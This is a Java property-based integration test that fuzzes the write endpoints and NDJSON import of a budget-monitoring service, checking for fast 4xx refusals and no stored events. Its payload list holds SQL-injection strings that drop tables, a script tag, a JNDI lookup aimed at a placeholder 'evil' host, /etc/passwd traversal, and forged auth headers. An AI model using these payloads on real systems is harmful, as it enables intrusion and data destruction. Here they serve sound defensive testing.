package io.budgetmonitor.command.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import io.budgetmonitor.api.wire.BudgetJson;
import io.budgetmonitor.command.it.RunningCommandService.Answer;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Function;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.EdgeCasesMode;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import net.jqwik.api.statistics.Statistics;

/**
 * Hostile input, generated: every write endpoint and the NDJSON import, over real HTTP against a
 * running command service on real PostgreSQL and Kafka. Whatever is sent — malformed JSON, wrong
 * types, huge, negative, over-precise or exponent numbers, dates outside any year, long strings,
 * control characters, SQL and script payloads, deep nesting, hostile path segments and headers —
 * the answer is a 4xx problem+json or the business answer, within {@value #BOUND_MILLIS} ms by this
 * test's clock, and the event store grows only for commands that were accepted (or a refused payment,
 * whose refusal is a recorded fact). Requests sign in as the operator (RunningCommandService), so
 * they reach the limits and the validation; without valid credentials the same requests are a 401.
 */
class HostileInputPropertiesIT {

    static final long BOUND_MILLIS = 2_000;
    private static final String YEAR = "2021";
    private static final AtomicLong UNIQUE = new AtomicLong();

    private static RunningCommandService service;
    private static String department;
    private static String closingDepartment;
    private static String openingDepartment;

    @BeforeContainer
    static void start() {
        service = RunningCommandService.start("command_props");
        department = "PROP-" + System.nanoTime() % 100_000;
        closingDepartment = department + "-C";
        openingDepartment = department + "-O";
        for (String d : List.of(department, closingDepartment)) {
            accepted(service.post(year(d), """
                    {"departmentName":"性质测试","occurredOn":"2021-01-01"}""", Map.of()));
        }
        for (String line : List.of("L-A", "L-B")) {
            accepted(service.post(year(department) + "/lines", """
                    {"line":"%s","name":"公用经费","fundSource":"GENERAL_PUBLIC_BUDGET","expenditureType":"PUBLIC_EXPENSE",
                     "appropriation":true,"amount":"900000000000.00","occurredOn":"2021-01-05"}""".formatted(line), Map.of()));
        }
        accepted(service.post(year(department) + "/kpis", """
                {"kpi":"B1.1","task":"B1","name":"培训次数","direction":"HIGHER_IS_BETTER","target":"10","unit":"次","points":"2",
                 "occurredOn":"2021-01-10"}""", Map.of()));
        for (int i = 1; i <= 3; i++) {
            accepted(service.post(year(department) + "/lines/L-A/disbursements", """
                    {"voucher":"SEED-%d","amount":"10.00","payee":"某公司","purpose":"办公用品","occurredOn":"2021-02-01"}""".formatted(i), Map.of()));
        }
    }

    @AfterContainer
    static void stop() {
        if (service != null) {
            service.close();
        }
    }

    // ---- the properties ----

    @Property(
            tries = 400,
            edgeCases =
                    EdgeCasesMode.NONE) // the hostile values are edge cases already; spread tries over the endpoints
    void everyWriteEndpointAnswersHostileBodiesWithAProblemQuickly(
            @ForAll("endpoints") Endpoint endpoint,
            @ForAll("hostileBodies") Function<Map<String, String>, String> hostile,
            @ForAll("hostileHeaders") Map<String, String> headers) {
        String body = hostile.apply(endpoint.validBody());
        long before = service.eventCount();
        Answer answer = service.post(endpoint.path(), body, headers);
        Statistics.label("endpoint").collect(endpoint.name());
        Statistics.label("status").collect(answer.status());
        assertWellBehaved(answer, before, service.eventCount(), body);
    }

    /**
     * Without valid credentials the same hostile requests are refused before anything of them is read
     * (the security filter runs before the body and header limits): 401 problem+json, as quickly,
     * nothing stored.
     */
    @Property(tries = 100, edgeCases = EdgeCasesMode.NONE)
    void withoutValidCredentialsEveryHostileRequestIsA401ProblemQuickly(
            @ForAll("endpoints") Endpoint endpoint,
            @ForAll("hostileBodies") Function<Map<String, String>, String> hostile,
            @ForAll("hostileHeaders") Map<String, String> headers,
            @ForAll("invalidCredentials") Optional<String> authorization) {
        String body = hostile.apply(endpoint.validBody());
        Map<String, String> sent = new LinkedHashMap<>(headers);
        authorization.ifPresent(value -> sent.put("Authorization", value));
        long before = service.eventCount();
        Answer answer = service.postAnonymously(endpoint.path(), body, sent);
        Statistics.label("credentials")
                .collect(authorization.map(value -> value.split(" ")[0]).orElse("none"));
        assertThat(answer.status()).as(abbreviated(answer.body())).isEqualTo(401);
        assertWellBehaved(answer, before, service.eventCount(), body);
        assertThat(answer.json().get("title").asText()).isEqualTo("Unauthorized");
    }

    @Property(tries = 150)
    void hostilePathSegmentsAreRefusedAsProblems(
            @ForAll("pathSegments") String segment, @ForAll("segmentPositions") int position) {
        String[] parts = {department, YEAR, "L-A", "SEED-1"};
        parts[position] = segment;
        String path = "/api/v1/departments/" + parts[0] + "/years/" + parts[1] + "/lines/" + parts[2] + "/disbursements"
                + (position == 3 ? "/" + parts[3] + "/reversal" : "");
        String body = position == 3
                ? "{\"reason\":\"冲销\",\"occurredOn\":\"2021-04-01\"}"
                : disbursementFields().toString();
        long before = service.eventCount();
        Answer answer = service.post(path, position == 3 ? body : json(disbursementFields()), Map.of());
        Statistics.label("status").collect(answer.status());
        assertThat(answer.status()).as(path).isBetween(400, 499);
        assertWellBehaved(answer, before, service.eventCount(), path);
    }

    @Property(tries = 150)
    void everyHostileImportLineIsRejectedAloneAndTheRestApplied(@ForAll("importLines") List<byte[]> lines) {
        ByteArrayOutputStream ndjson = new ByteArrayOutputStream();
        for (byte[] line : lines) {
            ndjson.writeBytes(line);
            ndjson.write('\n');
        }
        long before = service.eventCount();
        Answer answer = service.importNdjson(() -> new ByteArrayInputStream(ndjson.toByteArray()));
        long after = service.eventCount();
        assertThat(answer.millis()).as("import answered in ms").isLessThan(BOUND_MILLIS);
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        JsonNode report = answer.json();
        long nonBlank = lines.stream()
                .filter(l -> !new String(l, StandardCharsets.UTF_8).isBlank())
                .count();
        assertThat(report.get("accepted").asLong()
                        + report.get("duplicates").asLong()
                        + report.get("rejectedCount").asLong())
                .as(answer.body())
                .isEqualTo(nonBlank);
        long recordedRefusals = 0;
        for (JsonNode rejected : report.get("rejected")) {
            assertThat(rejected.get("status").asInt()).as(rejected.toString()).isBetween(400, 499);
            if (rejected.get("title").asText().equals("Insufficient available budget")) {
                recordedRefusals++;
            }
        }
        Statistics.label("lines").collect(lines.size());
        Statistics.label("rejected").collect(report.get("rejectedCount").asLong());
        assertThat(after - before)
                .as(answer.body())
                .isEqualTo(report.get("accepted").asLong() + recordedRefusals);
    }

    /** 4xx problem+json (or a 2xx business answer), in time, and events stored only for what was accepted. */
    private static void assertWellBehaved(Answer answer, long eventsBefore, long eventsAfter, String sent) {
        String what = abbreviated(sent) + " → " + answer.status() + " " + abbreviated(answer.body());
        assertThat(answer.millis()).as("ms for " + what).isLessThan(BOUND_MILLIS);
        assertThat(answer.status()).as(what).isLessThan(500);
        boolean stored;
        if (answer.status() >= 400) {
            assertThat(answer.isProblem()).as(what).isTrue();
            JsonNode problem = answer.json();
            assertThat(problem.get("status").asInt()).as(what).isEqualTo(answer.status());
            stored = answer.status() == 409
                    && "Insufficient available budget"
                            .equals(problem.path("title").asText());
        } else {
            assertThat(answer.contentType()).as(what).startsWith("application/json");
            stored = answer.status() == 201;
        }
        if (stored) {
            assertThat(eventsAfter).as(what).isGreaterThan(eventsBefore);
        } else {
            assertThat(eventsAfter).as(what).isEqualTo(eventsBefore);
        }
    }

    // ---- endpoints and their valid bodies (raw JSON fragments by field) ----

    record Endpoint(String name, String path, java.util.function.Supplier<Map<String, String>> body) {
        Map<String, String> validBody() {
            return body.get();
        }

        @Override
        public String toString() {
            return name;
        }
    }

    @Provide
    Arbitrary<Endpoint> endpoints() {
        String y = year(department);
        return Arbitraries.of(
                new Endpoint(
                        "OpenFiscalYear",
                        year(openingDepartment),
                        () -> fields(
                                "departmentName",
                                q("新部门"),
                                "rubric",
                                q("baiyun-2022"),
                                "quarterTargets",
                                "[\"0.25\",\"0.50\",\"0.75\",\"1.00\"]",
                                "occurredOn",
                                q("2021-01-01"))),
                new Endpoint(
                        "AllocateBudget",
                        y + "/lines",
                        () -> fields(
                                "line",
                                q("N-" + UNIQUE.incrementAndGet()),
                                "name",
                                q("项目支出"),
                                "fundSource",
                                q("OTHER"),
                                "expenditureType",
                                q("PROJECT"),
                                "threePublic",
                                q("NONE"),
                                "appropriation",
                                "true",
                                "amount",
                                q("1000.00"),
                                "occurredOn",
                                q("2021-01-05"))),
                new Endpoint(
                        "AdjustBudget",
                        y + "/lines/L-A/adjustments",
                        () -> fields(
                                "kind",
                                q("SUPPLEMENT"),
                                "amount",
                                q("10.00"),
                                "reason",
                                q("追加"),
                                "occurredOn",
                                q("2021-02-01"))),
                new Endpoint(
                        "TransferBudget",
                        y + "/transfers",
                        () -> fields(
                                "fromLine",
                                q("L-A"),
                                "toLine",
                                q("L-B"),
                                "amount",
                                q("1.00"),
                                "reason",
                                q("调剂"),
                                "occurredOn",
                                q("2021-02-01"))),
                new Endpoint(
                        "ReclaimFunds",
                        y + "/lines/L-B/reclaims",
                        () -> fields("amount", q("1.00"), "occurredOn", q("2021-12-31"))),
                new Endpoint(
                        "CarryOverFunds",
                        y + "/lines/L-B/carry-overs",
                        () -> fields("amount", q("1.00"), "occurredOn", q("2022-01-15"))),
                new Endpoint(
                        "RecordDisbursement",
                        y + "/lines/L-A/disbursements",
                        HostileInputPropertiesIT::disbursementFields),
                new Endpoint(
                        "ReverseDisbursement",
                        y + "/lines/L-A/disbursements/SEED-" + (1 + UNIQUE.get() % 3) + "/reversal",
                        () -> fields("reason", q("冲销"), "occurredOn", q("2021-04-01"))),
                new Endpoint(
                        "CloseQuarter",
                        year(closingDepartment) + "/quarters/1/closure",
                        () -> fields(
                                "reportedExecution",
                                "{\"GENERAL_PUBLIC_BUDGET\":\"100.00\"}",
                                "occurredOn",
                                q("2021-03-31"))),
                new Endpoint(
                        "CloseFiscalYear",
                        year(closingDepartment) + "/closure",
                        () -> fields("occurredOn", q("2021-12-31"))),
                new Endpoint(
                        "ApproveProcurementPlan",
                        y + "/procurement-plans",
                        () -> fields("amount", q("100.00"), "occurredOn", q("2021-02-01"))),
                new Endpoint(
                        "ReportAssetUtilization",
                        y + "/asset-utilization",
                        () -> fields("inUse", q("50.00"), "total", q("100.00"), "occurredOn", q("2021-06-30"))),
                new Endpoint(
                        "SetPerformanceTarget",
                        y + "/kpis",
                        () -> fields(
                                "kpi",
                                q("K-" + UNIQUE.incrementAndGet()),
                                "task",
                                q("B1"),
                                "name",
                                q("指标"),
                                "direction",
                                q("HIGHER_IS_BETTER"),
                                "target",
                                q("10"),
                                "targetDescription",
                                q("≥10次"),
                                "unit",
                                q("次"),
                                "points",
                                q("2"),
                                "occurredOn",
                                q("2021-01-10"))),
                new Endpoint(
                        "AdjustPerformanceTarget",
                        y + "/kpis/B1.1/adjustments",
                        () -> fields(
                                "target",
                                q("12"),
                                "targetDescription",
                                q("≥12次"),
                                "reason",
                                q("年中调整"),
                                "occurredOn",
                                q("2021-06-30"))),
                new Endpoint(
                        "ReportPerformanceProgress",
                        y + "/kpis/B1.1/progress",
                        () -> fields("actual", q("5"), "occurredOn", q("2021-06-30"))),
                new Endpoint(
                        "RecordQualitativeAssessment",
                        y + "/qualitative-assessments",
                        () -> fields(
                                "indicator",
                                q("A6.5"),
                                "deduction",
                                q("0.5"),
                                "reason",
                                q("原因"),
                                "evaluator",
                                q("评价组"),
                                "occurredOn",
                                q("2021-12-31"))),
                new Endpoint(
                        "RecordBonusPenalty",
                        y + "/bonus-penalties",
                        () -> fields("points", q("1.5"), "reason", q("表扬"), "occurredOn", q("2021-06-30"))),
                new Endpoint(
                        "ExplainDeviation",
                        y + "/deviation-explanations",
                        () -> fields(
                                "subject",
                                q("B1.1"),
                                "cause",
                                // a new cause each time: the same explanation again records nothing
                                q("培训场地未落实" + UNIQUE.incrementAndGet()),
                                "measure",
                                q("三季度集中培训"),
                                "occurredOn",
                                q("2021-07-15"))));
    }

    private static Map<String, String> disbursementFields() {
        return fields(
                "voucher",
                q("P-" + UNIQUE.incrementAndGet()),
                "amount",
                q("12.34"),
                "payee",
                q("某物业公司"),
                "purpose",
                q("物业费"),
                "procurement",
                "false",
                "occurredOn",
                q("2021-03-15"));
    }

    // ---- hostile bodies ----

    @Provide
    Arbitrary<Function<Map<String, String>, String>> hostileBodies() {
        Arbitrary<Function<Map<String, String>, String>> replaced = Combinators.combine(
                        Arbitraries.integers().between(0, 20), hostileValues())
                .as((index, value) -> fields -> {
                    Map<String, String> copy = new LinkedHashMap<>(fields);
                    List<String> names = new ArrayList<>(copy.keySet());
                    names.add("unexpected");
                    copy.put(names.get(index % names.size()), value);
                    return json(copy);
                });
        Arbitrary<Function<Map<String, String>, String>> malformed = Combinators.combine(
                        Arbitraries.integers().between(0, 400),
                        Arbitraries.of("", "}", "{", "\"", ",", ":", "\\", "\u0000", "NaN", "//", "]"))
                .as((cut, garbage) -> fields -> {
                    String text = json(fields);
                    int at = Math.min(cut, text.length());
                    return text.substring(0, at) + garbage;
                });
        Arbitrary<Function<Map<String, String>, String>> notAnObject = Arbitraries.of(
                        "", "null", "[]", "[{}]", "\"text\"", "42", "true", "{}", "{\"type\":\"Teleport\"}", "\uFEFF{}")
                .map(text -> fields -> text);
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, replaced),
                net.jqwik.api.Tuple.of(2, malformed),
                net.jqwik.api.Tuple.of(1, notAnObject));
    }

    /** A value for one field, as a raw JSON fragment (some of them not JSON at all). */
    @Provide
    Arbitrary<String> hostileValues() {
        Arbitrary<String> wrongTypes =
                Arbitraries.of("true", "null", "[]", "{}", "[1,2]", "{\"a\":1}", "0", "-1", "\"\"", "\" \"");
        Arbitrary<String> exponents = Arbitraries.of(
                        "1e9999999", "-1e9999999", "1E+308", "1.5e3", "2e-5", "1e-9999999", "9e99999999999")
                .flatMap(e -> Arbitraries.of(e, q(e)));
        Arbitrary<String> manyDigits = Arbitraries.integers()
                .between(16, 5_000)
                .flatMap(n -> Arbitraries.of(
                        "9".repeat(n), q("9".repeat(n)), q("0." + "1".repeat(n)), q("1" + "0".repeat(n) + ".00")));
        Arbitrary<String> outOfRangeNumbers = Arbitraries.of(
                        "-5.00",
                        "-0.01",
                        "0",
                        "0.00",
                        "-0",
                        "1.001",
                        "0.0000001",
                        "1.1234567",
                        "1000000000000000",
                        "999999999999999.99",
                        "Infinity",
                        "-Infinity",
                        "0x1F",
                        "١٢٣",
                        "1,000.00",
                        "+1.00",
                        ".5",
                        "5.")
                .flatMap(v -> Arbitraries.of(v, q(v)));
        Arbitrary<String> decimals = Arbitraries.bigDecimals()
                .between(new java.math.BigDecimal("-1e20"), new java.math.BigDecimal("1e20"))
                .ofScale(6)
                .map(d -> d.toPlainString())
                .flatMap(v -> Arbitraries.of(v, q(v)));
        Arbitrary<String> dates = Arbitraries.of(
                        "0000-01-01",
                        "-999999999-01-01",
                        "+999999999-12-31",
                        "2021-02-30",
                        "2021-13-01",
                        "2020-12-31",
                        "2022-01-01",
                        "2023-06-30",
                        "20210101",
                        "2021-06-15T00:00:00Z",
                        "1900-01-01",
                        "9999-12-31",
                        "2021-1-1")
                .map(HostileInputPropertiesIT::q);
        Arbitrary<String> anyDates = Arbitraries.integers()
                .between(0, 9999)
                .flatMap(y -> Arbitraries.integers()
                        .between(1, 366)
                        .map(d -> q(java.time.LocalDate.ofYearDay(y, Math.min(d, 365))
                                .toString())));
        Arbitrary<String> longStrings = Arbitraries.integers()
                .between(65, 70_000)
                .flatMap(n -> Arbitraries.of("x", "款", "9", "𠀀").map(c -> q(c.repeat(n))));
        Arbitrary<String> controls = Arbitraries.of(
                        "\\u0000",
                        "\\u0007",
                        "\\n",
                        "\\r\\n",
                        "\\t",
                        "\\u001b[31m",
                        "\\u0085",
                        "\\u009f",
                        "\\ud800",
                        "\\udfff",
                        "\\u202e")
                .map(c -> "\"付款" + c + "对象\"");
        Arbitrary<String> payloads = Arbitraries.of(
                        "'; DROP TABLE domain_event_entry; --",
                        "1' OR '1'='1",
                        "\\\"); DELETE FROM voucher_book; --",
                        "<script>alert(1)</script>",
                        "${jndi:ldap://evil/a}",
                        "../../etc/passwd",
                        "%00",
                        "{{7*7}}",
                        "A6.5' --",
                        "L-A:2021",
                        "BY-SJ/../x",
                        "Robert'); DROP TABLE students;--")
                .map(HostileInputPropertiesIT::q);
        Arbitrary<String> anyText = Arbitraries.strings().all().ofMaxLength(300).map(HostileInputPropertiesIT::quoted);
        Arbitrary<String> nesting = Arbitraries.integers()
                .between(50, 5_000)
                .flatMap(n -> Arbitraries.of("[".repeat(n) + "]".repeat(n), "{\"a\":".repeat(n) + "1" + "}".repeat(n)));
        return Arbitraries.oneOf(
                wrongTypes,
                exponents,
                manyDigits,
                outOfRangeNumbers,
                decimals,
                dates,
                anyDates,
                longStrings,
                controls,
                payloads,
                anyText,
                nesting);
    }

    @Provide
    Arbitrary<Map<String, String>> hostileHeaders() {
        Arbitrary<Map<String, String>> none = Arbitraries.just(Map.of());
        Arbitrary<Map<String, String>> longOnes = Combinators.combine(
                        Arbitraries.of("X-Recorded-By", "X-Correlation-Id", "Idempotency-Key"),
                        Arbitraries.integers().between(129, 6_000))
                .as((name, n) -> Map.of(name, "h".repeat(n)));
        Arbitrary<Map<String, String>> fine =
                Arbitraries.of(Map.of("X-Recorded-By", "fin-office"), Map.of("X-Correlation-Id", "c-1"));
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(8, none), net.jqwik.api.Tuple.of(1, longOnes), net.jqwik.api.Tuple.of(1, fine));
    }

    /** No credentials, or ones that do not sign anyone in. */
    @Provide
    Arbitrary<Optional<String>> invalidCredentials() {
        Arbitrary<String> wrongPassword = Arbitraries.of("admin", "recorder", "budget-office", "evaluator", "auditor")
                .map(user -> basicOf(user + ":" + RunningCommandService.PASSWORD + "x"));
        Arbitrary<String> unknownUser = Arbitraries.strings()
                .alpha()
                .ofMinLength(1)
                .ofMaxLength(40)
                .map(user -> basicOf("nobody-" + user + ":" + RunningCommandService.PASSWORD));
        Arbitrary<String> malformed = Arbitraries.of(
                "Basic",
                "Basic ",
                "Basic !!!",
                "Basic " + "A".repeat(4_000),
                "Basic " + java.util.Base64.getEncoder().encodeToString("admin".getBytes(StandardCharsets.UTF_8)),
                "Basic " + java.util.Base64.getEncoder().encodeToString(new byte[] {'a', ':', (byte) 0xFF}),
                "Bearer eyJhbGciOiJub25lIn0.e30.",
                "Digest username=\"admin\"",
                "basic",
                "Negotiate");
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(3, Arbitraries.just(Optional.<String>empty())),
                net.jqwik.api.Tuple.of(2, wrongPassword.map(Optional::of)),
                net.jqwik.api.Tuple.of(1, unknownUser.map(Optional::of)),
                net.jqwik.api.Tuple.of(2, malformed.map(Optional::of)));
    }

    private static String basicOf(String userAndPassword) {
        return "Basic "
                + java.util.Base64.getEncoder().encodeToString(userAndPassword.getBytes(StandardCharsets.UTF_8));
    }

    // ---- hostile paths ----

    @Provide
    Arbitrary<String> pathSegments() {
        Arbitrary<String> fixed = Arbitraries.of(
                "%00",
                "a%00b",
                "%2F",
                "a%2Fb",
                "%5C",
                "..",
                "%2e%2e",
                "%25",
                "%C0%AE",
                "%FF",
                "%E2%80%AE",
                "a;jsessionid=1",
                "%20",
                "%0A",
                "%0D%0A",
                "99999999999",
                "-1",
                "2021.5",
                "1e3",
                "0x7E5",
                "L-A%3A2021",
                "%27%3B%20DROP%20TABLE%20x");
        Arbitrary<String> encoded = Arbitraries.strings()
                .all()
                .ofMinLength(1)
                .ofMaxLength(80)
                .map(s -> java.net.URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20"));
        Arbitrary<String> longOnes = Arbitraries.integers().between(65, 12_000).map("s"::repeat);
        return Arbitraries.oneOf(fixed, encoded, longOnes);
    }

    @Provide
    Arbitrary<Integer> segmentPositions() {
        return Arbitraries.integers().between(0, 3);
    }

    // ---- hostile import lines ----

    @Provide
    Arbitrary<List<byte[]>> importLines() {
        Arbitrary<byte[]> valid = Arbitraries.just(0).map(ignored -> utf8(importLine(disbursementFields())));
        Arbitrary<byte[]> replaced = Combinators.combine(Arbitraries.integers().between(0, 20), hostileValues())
                .as((index, value) -> {
                    Map<String, String> fields = disbursementFields();
                    List<String> names = new ArrayList<>(fields.keySet());
                    fields.put(names.get(index % names.size()), value);
                    return utf8(importLine(fields).replace('\n', ' '));
                });
        Arbitrary<byte[]> tooLong =
                Arbitraries.integers().between(16_385, 40_000).map(n -> utf8("{\"type\":\"" + "x".repeat(n) + "\"}"));
        Arbitrary<byte[]> notUtf8 =
                Arbitraries.of(new byte[] {'{', (byte) 0xC3, '}'}, new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {
                    '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"'
                });
        Arbitrary<byte[]> garbage = Arbitraries.of(
                        "", "   ", "{", "null", "[]", "{\"type\":\"Teleport\"}", "{\"type\":null}", "\uFEFF{}")
                .map(HostileInputPropertiesIT::utf8);
        Arbitrary<byte[]> line = Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(3, valid),
                net.jqwik.api.Tuple.of(6, replaced),
                net.jqwik.api.Tuple.of(1, tooLong),
                net.jqwik.api.Tuple.of(1, notUtf8),
                net.jqwik.api.Tuple.of(1, garbage));
        return line.list().ofMinSize(1).ofMaxSize(8);
    }

    private static String importLine(Map<String, String> fields) {
        Map<String, String> line = new LinkedHashMap<>();
        line.put("type", q("RecordDisbursement"));
        line.put("department", q(department));
        line.put("fiscalYear", YEAR);
        line.put("line", q("L-A"));
        line.putAll(fields);
        return json(line);
    }

    // ---- small helpers ----

    private static String year(String dept) {
        return "/api/v1/departments/" + dept + "/years/" + YEAR;
    }

    private static void accepted(Answer answer) {
        if (answer.status() != 201) {
            throw new IllegalStateException("setup refused: " + answer.status() + " " + answer.body());
        }
    }

    private static Map<String, String> fields(String... namesAndFragments) {
        Map<String, String> fields = new LinkedHashMap<>();
        for (int i = 0; i < namesAndFragments.length; i += 2) {
            fields.put(namesAndFragments[i], namesAndFragments[i + 1]);
        }
        return fields;
    }

    private static String json(Map<String, String> fields) {
        StringBuilder json = new StringBuilder("{");
        fields.forEach((name, fragment) -> {
            if (json.length() > 1) {
                json.append(',');
            }
            json.append('"').append(name).append("\":").append(fragment);
        });
        return json.append('}').toString();
    }

    private static String q(String text) {
        return "\"" + text + "\"";
    }

    private static String quoted(String text) {
        try {
            return BudgetJson.mapper().writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String abbreviated(String text) {
        return text == null || text.length() <= 300 ? text : text.substring(0, 300) + "…(" + text.length() + " chars)";
    }
}
